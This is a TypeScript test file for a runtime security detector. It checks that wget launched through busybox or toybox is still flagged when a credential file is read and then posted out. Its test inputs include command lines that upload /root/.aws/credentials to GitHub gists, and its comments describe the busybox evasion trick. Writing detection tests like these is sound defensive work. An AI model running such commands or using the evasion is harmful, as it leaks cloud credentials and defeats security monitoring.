/**
 * A multi-call binary runs its applet in its own process: `busybox wget …` is wget to anyone but the
 * sensors, which report `busybox`. Found by red-team review: a credential posted to a gist that way was no
 * push (a few KiB, far under the egress threshold), where the same applet through its `wget` link is one.
 */
import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { processOf } from '../../../src/formats/falco/process.js';
import { recognizeProcess } from '../../../src/rules/index.js';
import { brief, run, Scenario } from '../correlate/builder.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
const uploadTarget = (host: string, path: string) => classifier.isUploadTarget(host, path);
const recognize = (binary: string, args: string) => {
  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
  return r?.kind === 'push' ? { tool: r.tool, destination: r.destinationHost, renamed: r.renamed } : r;
};

describe('multi-call binaries (busybox, toybox)', () => {
  it('recognise the applet they run as the tool it is', () => {
    expect(recognize('/bin/busybox', 'wget --post-file=/root/.aws/credentials https://api.github.com/gists')).toEqual({
      tool: 'wget',
      destination: 'api.github.com',
      renamed: false,
    });
    expect(recognize('/usr/bin/toybox', 'wget --post-data=x https://gitlab.com/api/v4/snippets')).toMatchObject({
      tool: 'wget',
    });
    expect(recognize('/bin/busybox', 'tar cf - /srv')).toBeNull();
  });

  it('keep their downloads and other applets quiet', () => {
    expect(recognize('/bin/busybox', 'wget -q -O- https://github.com/acme/app/releases/download/v1/x.tgz')).toBeNull();
    expect(recognize('/bin/busybox', 'sh -c "wget --post-file=/x https://api.github.com/gists"')).toBeNull();
    expect(recognize('/bin/busybox', 'busybox wget --post-file=/x https://api.github.com/gists')).toBeNull();
    expect(recognize('/bin/busybox', '--list')).toBeNull();
  });

  for (const source of ['tetragon', 'falco'] as const) {
    it(`a credential posted by busybox wget is high (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'prod', pod: 'web-1', name: 'web' });
      const sh = s.init(c);
      s.read(sh, '/root/.aws/credentials', 116).wait(1_000);
      const w = s.exec(c, '/bin/busybox', 'wget --post-file=/root/.aws/credentials https://api.github.com/gists', {
        parent: sh,
      });
      s.read(w, '/root/.aws/credentials', 116).wait(300).exit(w);
      expect(brief(run(s.events).alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'wget', destination: 'api.github.com' },
      ]);
    });
  }

  // Found by review: through an applet's link (Alpine's `wget`), Falco's proc.exepath is the resolved
  // /bin/busybox and only the comm, the command line's first word, names the applet.
  it('an applet run through its link is recognised with Falco', () => {
    const fields = (cmdline: string) => ({
      'proc.exepath': '/bin/busybox',
      'proc.name': cmdline.split(' ')[0],
      'proc.cmdline': cmdline,
      'proc.pexepath': '/bin/busybox',
      'proc.pcmdline': 'sh -c /run.sh',
    });
    const p = processOf(fields('wget --post-file=/root/.aws/credentials https://api.github.com/gists'));
    expect(recognize(p.binary!, p.args!)).toMatchObject({ tool: 'wget', renamed: false });
    expect(p.parentArgs).toBe('sh -c /run.sh');
    // Run as `busybox wget …`, the comm is busybox: the arguments are as given.
    const explicit = processOf(fields('busybox wget --post-file=/x https://api.github.com/gists'));
    expect(explicit.args).toBe('wget --post-file=/x https://api.github.com/gists');
    expect(processOf({ ...fields('x'), 'proc.exepath': '/usr/bin/wget', 'proc.cmdline': 'wget -q URL' }).args).toBe(
      '-q URL',
    );
    // Only a path whose last component is the multi-call binary's name (the test is by suffix, not a cut).
    const at = (exepath: string) => processOf({ ...fields('wget -q URL'), 'proc.exepath': exepath }).args;
    expect(at('/opt/tools/mybusybox')).toBe('-q URL');
    expect(at('/opt/busybox-static/wget')).toBe('-q URL');
    expect(at('busybox')).toBe('wget -q URL');
    expect(at('/usr/bin/toybox')).toBe('wget -q URL');
  });
});
